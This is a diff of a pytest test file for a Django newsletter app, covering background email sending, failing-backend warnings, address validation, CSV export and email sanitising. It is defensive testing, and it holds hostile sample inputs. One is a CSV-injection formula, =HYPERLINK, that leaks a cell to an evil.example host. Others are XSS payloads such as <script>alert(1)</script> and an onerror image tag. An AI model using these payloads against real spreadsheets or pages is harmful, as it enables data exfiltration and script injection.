@@ -43,7 +43,7 @@ def text_part(message):
 # Subscribing -------------------------------------------------------------------
 
 
-@pytest.mark.django_db
+@pytest.mark.django_db(transaction=True)  # the worker sends the confirmation
 def test_signup_confirm_flow_through_real_smtp(client, smtp_server, settings):
     """Signup stores a pending subscriber, the email's link shows a button, its POST subscribes."""
     response = signup(client, "  Reader@Example.ORG ", name="Dara")
@@ -55,6 +55,8 @@ def test_signup_confirm_flow_through_real_smtp(client, smtp_server, settings):
     assert subscriber.consent_version == "2025-1" and "I agree" in subscriber.consent_text
     assert subscriber.ip_address == "127.0.0.1" and subscriber.source == "footer"
 
+    assert smtp_server.messages == []  # the worker sends it, not the visitor's request
+    run_worker()
     assert len(smtp_server.messages) == 1
     message = smtp_server.messages[0]["message"]
     assert smtp_server.messages[0]["to"] == ["reader@example.org"]
@@ -123,12 +125,13 @@ def test_bad_signup_shows_error_and_keeps_input(client, mailoutbox, data, error)
     assert not Subscriber.objects.exists() and not mailoutbox
 
 
-@pytest.mark.django_db
+@pytest.mark.django_db(transaction=True)  # the worker sends the confirmation
 def test_confirmation_emails_per_address_are_limited(client, mailoutbox, settings):
     """Four signups of one address in a day send three confirmation emails."""
     settings.NEWSLETTER_CONFIRMATIONS_PER_DAY = 3
     for _ in range(4):
         assert signup(client, "same@example.org").status_code == 200
+    run_worker()
     assert len(mailoutbox) == 3
 
 
@@ -238,10 +241,11 @@ def test_reading_pages_sets_no_cookie(client):
     assert 'id="comment-form"' in post_page.content.decode() and not post_page.cookies
 
 
-@pytest.mark.django_db
+@pytest.mark.django_db(transaction=True)  # the worker sends the confirmation
 def test_resubscribe_after_leaving_needs_a_new_confirmation(client, mailoutbox):
     subscriber = SubscriberFactory(email="back@example.org", status="unsubscribed")
     signup(client, "back@example.org")
+    run_worker()
     subscriber.refresh_from_db()
     assert subscriber.status == "pending" and len(mailoutbox) == 1
 
@@ -750,3 +754,294 @@ def test_browser_signup_without_javascript_and_with_errors(browser, live_server,
         assert Subscriber.objects.filter(email="nojs@example.org", source="page").exists()
     finally:
         context.close()
+
+
+# Any email backend; a stalled send explains itself -------------------------------
+
+
+@pytest.mark.django_db(transaction=True)
+@pytest.mark.parametrize(
+    "backend",
+    [
+        "django.core.mail.backends.locmem.EmailBackend",
+        "django.core.mail.backends.console.EmailBackend",  # what `make run` uses
+        "django.core.mail.backends.filebased.EmailBackend",
+        "tests.email_backends.ProviderAPIBackend",  # a provider's API: no .connection
+    ],
+)
+def test_campaign_sends_with_every_email_backend(settings, tmp_path, capsys, backend):
+    """Each confirmed subscriber gets the campaign once, whatever backend Django is given."""
+    from django.core import mail
+
+    from tests import email_backends
+
+    settings.EMAIL_BACKEND = backend
+    settings.EMAIL_FILE_PATH = tmp_path / "mail"
+    email_backends.sent.clear()
+    mail.outbox = []
+    campaign, subscribers = _send_to(3, subject="Backend edition")
+    run_worker()
+    campaign.refresh_from_db()
+    assert campaign.status == "sent" and campaign.sent_count == 3 and not campaign.last_error
+    written = {
+        "django.core.mail.backends.locmem.EmailBackend": lambda: "".join(m.message().as_string() for m in mail.outbox),
+        "django.core.mail.backends.console.EmailBackend": lambda: capsys.readouterr().out,
+        "django.core.mail.backends.filebased.EmailBackend": lambda: "".join(p.read_text() for p in (tmp_path / "mail").iterdir()),
+        "tests.email_backends.ProviderAPIBackend": lambda: b"".join(email_backends.sent).decode(),
+    }[backend]()
+    for subscriber in subscribers:
+        assert written.count(f"To: {subscriber.email}") == 1
+    assert written.count("List-Unsubscribe-Post: List-Unsubscribe=One-Click") == 3
+    assert "/newsletter/unsubscribe/" in written and "Subject: Backend edition" in written
+
+
+@pytest.mark.django_db(transaction=True)
+def test_a_send_that_keeps_failing_shows_staff_why(client, settings):
+    """The backend refuses every message: the campaign list and page say it is not
+    progressing, with the last error and the attempts; nothing is lost."""
+    settings.EMAIL_BACKEND = "tests.email_backends.FailingAPIBackend"
+    campaign, _subscribers = _send_to(2, subject="Stuck edition")
+    run_worker()
+    campaign.refresh_from_db()
+    assert campaign.status == "sending" and campaign.is_stalled
+    assert campaign.failing_attempts == 1 and "401 Unauthorized: API key expired" in campaign.last_error
+    assert Delivery.objects.filter(status="pending", attempts=1).count() == 2
+    client.force_login(StaffFactory(is_superuser=True))
+    listing = client.get(reverse("admin:newsletter_campaign_changelist")).content.decode()
+    assert "Not progressing" in listing and "API key expired" in listing and "1 attempts without progress" in listing
+    page = client.get(reverse("admin:newsletter_campaign_change", args=[campaign.pk])).content.decode()
+    assert "Not progressing." in page and "API key expired" in page
+    assert "Most attempts on one waiting message: 1." in page
+    # The backend works again: the next batch sends and the warning goes.
+    settings.EMAIL_BACKEND = "django.core.mail.backends.locmem.EmailBackend"
+    Delivery.objects.update(next_attempt_at=timezone.now())
+    from django_tasks_db.models import DBTaskResult
+
+    DBTaskResult.objects.filter(status="READY").update(run_after=timezone.now())
+    run_worker()
+    campaign.refresh_from_db()
+    assert campaign.status == "sent" and campaign.sent_count == 2 and not campaign.is_stalled
+
+
+@pytest.mark.django_db
+def test_a_send_with_no_worker_is_shown_as_not_progressing(client, time_machine):
+    """Nothing went out ten minutes after "Send" (no worker running): staff are told."""
+    campaign, _subscribers = _send_to(1)
+    campaign.refresh_from_db()
+    assert not campaign.is_stalled
+    time_machine.move_to(timezone.now() + timedelta(minutes=11))
+    assert campaign.is_stalled
+    client.force_login(StaffFactory(is_superuser=True))
+    page = client.get(reverse("admin:newsletter_campaign_change", args=[campaign.pk])).content.decode()
+    assert "Not progressing." in page and "manage.py db_worker" in page
+
+
+# No email inside a visitor's request ------------------------------------------------
+
+
+@pytest.fixture
+def hanging_smtp(settings):
+    from tests.servers import HangingSMTPServer
+
+    server = HangingSMTPServer()
+    settings.EMAIL_BACKEND = "django.core.mail.backends.smtp.EmailBackend"
+    settings.EMAIL_HOST, settings.EMAIL_PORT, settings.EMAIL_TIMEOUT = "127.0.0.1", server.port, 20
+    yield server
+    server.stop()
+
+
+@pytest.mark.django_db
+def test_signup_does_not_wait_for_a_hanging_mail_server(client, hanging_smtp):
+    """The mail server accepts and never answers: the signup still answers at once,
+    the address is stored and its confirmation waits in the task queue."""
+    import time
+
+    from django_tasks_db.models import DBTaskResult
+
+    started = time.monotonic()
+    response = signup(client, "patient@example.org")
+    assert time.monotonic() - started < 2
+    assert response.status_code == 200 and "Please check your inbox" in response.content.decode()
+    assert Subscriber.objects.filter(email="patient@example.org", status="pending").exists()
+    assert DBTaskResult.objects.filter(task_path="newsletter.tasks.send_confirmation", status="READY").count() == 1
+    assert hanging_smtp.connections == []  # nobody even tried to connect
+
+
+def test_tasks_do_not_import_services():
+    """services → tasks → sending/emails → models: no import circle."""
+    import ast
+    from pathlib import Path
+
+    import newsletter.tasks
+
+    tree = ast.parse(Path(newsletter.tasks.__file__).read_text())
+    imported = {alias.name for node in ast.walk(tree) if isinstance(node, ast.ImportFrom) for alias in node.names}
+    imported |= {node.module or "" for node in ast.walk(tree) if isinstance(node, ast.ImportFrom)}
+    assert "services" not in imported and "newsletter.services" not in imported
+
+
+# One address rule -------------------------------------------------------------------
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize(
+    ("email", "message"),
+    [
+        ("x@localhost", "not localhost or an IP address"),
+        ("x@[127.0.0.1]", "not localhost or an IP address"),
+        ('"<script>alert(1)</script>"@example.org', "without quotation marks"),
+        ('"<b>x</b>"@example.org', "without quotation marks"),
+        ("x@example", "not localhost or an IP address"),
+    ],
+)
+def test_signup_refuses_addresses_mail_cannot_reach(client, mailoutbox, email, message):
+    """Django's validator accepts these; the signup refuses them, says why, keeps the input."""
+    response = signup(client, email, name="Kim")
+    html = response.content.decode()
+    assert response.status_code == 200 and message in html
+    assert "<script>alert(1)</script>" not in html and 'value="Kim"' in html
+    assert not Subscriber.objects.exists()
+
+
+@pytest.mark.django_db
+def test_csv_import_and_test_send_use_the_same_address_rule(client, mailoutbox):
+    client.force_login(StaffFactory(is_superuser=True, email="manager@example.org"))
+    response = _import(client, b'email,consent_source\nx@localhost,Paper form\n"""<b>""@example.org",Paper form\n')
+    html = response.content.decode()
+    assert response.status_code == 400 and "not localhost" in html and "without quotation marks" in html
+    assert not Subscriber.objects.exists()
+    campaign = CampaignFactory()
+    page = client.post(reverse("admin:newsletter_campaign_send_test", args=[campaign.pk]), {"email": "x@[127.0.0.1]"}, follow=True)
+    assert "No test sent" in page.content.decode() and not mailoutbox
+
+
+# CSV export ---------------------------------------------------------------------------
+
+
+@pytest.mark.django_db
+def test_csv_export_neutralises_formulas(client):
+    """OWASP CSV injection: cells starting with = + - @ tab or CR are exported as text."""
+    import csv
+    import io
+
+    names = ['=HYPERLINK("https://evil.example/?leak="&A2,"Click")', "+SUM(1+1)", "-2+3", "@SUM(1)", "\tTab", "\rReturn"]
+    for number, name in enumerate(names):
+        SubscriberFactory(email=f"formula{number}@example.org", name=name)
+    SubscriberFactory(email="plain@example.org", name="Dara Sok")
+    client.force_login(StaffFactory(groups=["Newsletter managers"]))
+    body = b"".join(client.get(reverse("admin:newsletter_subscriber_export")).streaming_content).decode()
+    rows = {row["email"]: row for row in csv.DictReader(io.StringIO(body, newline=""))}
+    for number, name in enumerate(names):
+        assert rows[f"formula{number}@example.org"]["name"] == "'" + name
+    assert rows["plain@example.org"]["name"] == "Dara Sok"
+    assert rows["plain@example.org"]["status"] == "subscribed"
+
+
+# Emails without iframes ----------------------------------------------------------------
+
+
+@pytest.mark.django_db(transaction=True)
+def test_campaign_email_has_no_iframe_and_nothing_from_inside_one(smtp_server):
+    """A video becomes a link to its page; what hid inside the iframe is gone."""
+    body = (
+        "<p>Watch this.</p>"
+        '<p><iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ" title="COMMIT 10 years">'
+        "<img src=x onerror=alert(1)></iframe></p>"
+    )
+    campaign, _subscribers = _send_to(1, body=body)
+    assert "onerror" in campaign.body  # what the sanitiser lets through today
+    run_worker()
+    message = smtp_server.messages[0]["message"]
+    html, text = message.get_body(("html",)).get_content(), text_part(message)
+    for part in (html, text):
+        assert "iframe" not in part.lower() and "onerror" not in part and "src=x" not in part
+        assert "https://www.youtube.com/watch?v=dQw4w9WgXcQ" in part
+    assert "Watch the video: COMMIT 10 years" in html
+
+
+# Pages: message pages, HEAD -------------------------------------------------------------
+
+
+@pytest.mark.django_db
+def test_message_pages_do_not_offer_the_footer_form(client):
+    """Confirm, confirmed, unsubscribe and left pages: noindex, and no footer "Subscribe"."""
+    pending = SubscriberFactory(status="pending")
+    member = SubscriberFactory()
+    confirm_url = reverse("newsletter:confirm", args=[confirmation_token(pending)])
+    unsubscribe_url = reverse("newsletter:unsubscribe", args=[unsubscribe_token(member.pk)])
+    pages = [client.get(confirm_url), client.post(confirm_url), client.get(unsubscribe_url), client.post(unsubscribe_url),
+             client.get(reverse("newsletter:confirm", args=["broken"]))]  # fmt: skip
+    assert "Subscription confirmed" in pages[1].content.decode()
+    for response in pages:
+        html = response.content.decode()
+        assert 'id="footer-signup-heading"' not in html and 'name="robots" content="noindex"' in html
+        assert 'rel="canonical"' not in html
+
+
+@pytest.mark.django_db
+def test_head_answers_like_get(client):
+    campaign = CampaignFactory(status="sent", sent_at=timezone.now())
+    member = SubscriberFactory()
+    for url in [reverse("newsletter:page"), reverse("newsletter:archive"), campaign.get_absolute_url(),
+                reverse("newsletter:unsubscribe", args=[unsubscribe_token(member.pk)])]:  # fmt: skip
+        get, head = client.get(url), client.head(url)
+        assert head.status_code == get.status_code == 200, url
+        assert head.content == b"" and head["Content-Type"] == get["Content-Type"]
+    member.refresh_from_db()
+    assert member.status == "subscribed"
+
+
+# Demo content ----------------------------------------------------------------------------
+
+
+@pytest.mark.django_db
+def test_demo_archive_holds_the_2016_editions_as_sent(client):
+    from io import StringIO
+
+    from django.core.management import call_command
+
+    from newsletter.models import Campaign
+
+    call_command("load_demo", "--no-admin", stdout=StringIO())
+    html = client.get(reverse("newsletter:archive")).content.decode()
+    assert "UN-ACT April 2016 Newsletter" in html and "UN-ACT January 2016 Newsletter" in html
+    assert "demo edition" not in html.lower()
+    for campaign in Campaign.objects.all():
+        assert campaign.status == "sent" and campaign.recipient_count == campaign.sent_count == 3
+        assert campaign.sent_at.year == 2016
+        page = client.get(campaign.get_absolute_url())
+        assert page.status_code == 200
+        for href in re.findall(r'href="(/(?:posts|publications)/[^"]+)"', campaign.body):
+            assert client.get(href).status_code == 200, href
+    call_command("load_demo", "--no-admin", stdout=StringIO())
+    assert Campaign.objects.count() == 2 and Delivery.objects.count() == 6
+
+
+# The campaign's own page ------------------------------------------------------------------
+
+
+@pytest.mark.django_db(transaction=True)
+def test_campaign_page_sends_a_test_and_sends_then_shows_progress_read_only(client, smtp_server):
+    SubscriberFactory.create_batch(2)
+    client.force_login(StaffFactory(is_superuser=True, email="manager@example.org"))
+    campaign = CampaignFactory(subject="June edition", body="<p>Hello <strong>readers</strong>.</p>")
+    change_url = reverse("admin:newsletter_campaign_change", args=[campaign.pk])
+    page = client.get(change_url).content.decode()
+    test_url = reverse("admin:newsletter_campaign_send_test", args=[campaign.pk])
+    assert f'action="{test_url}"' in page and 'value="manager@example.org"' in page
+    assert reverse("admin:newsletter_campaign_send", args=[campaign.pk]) in page
+    client.post(test_url, {"email": "manager@example.org"})
+    client.post(test_url, {"email": "Colleague@Example.org"})
+    assert [m["to"] for m in smtp_server.messages] == [["manager@example.org"], ["Colleague@Example.org"]]
+    assert all(m["message"]["Subject"] == "[Test] June edition" for m in smtp_server.messages)
+    assert client.get(test_url).status_code == 405
+    client.post(reverse("admin:newsletter_campaign_send", args=[campaign.pk]), {"confirm": "yes"})
+    page = client.get(change_url).content.decode()
+    assert "<progress" in page and "remaining 2 of 2" in page
+    assert 'name="_save"' not in page and 'name="_continue"' not in page  # read-only
+    assert "&lt;p&gt;" not in page and "Hello <strong>readers</strong>." in page
+    assert test_url not in page
+    # A POST to the change page cannot edit it either.
+    client.post(change_url, {"subject": "Changed", "slug": campaign.slug, "body": "<p>x</p>"})
+    campaign.refresh_from_db()
+    assert campaign.subject == "June edition"
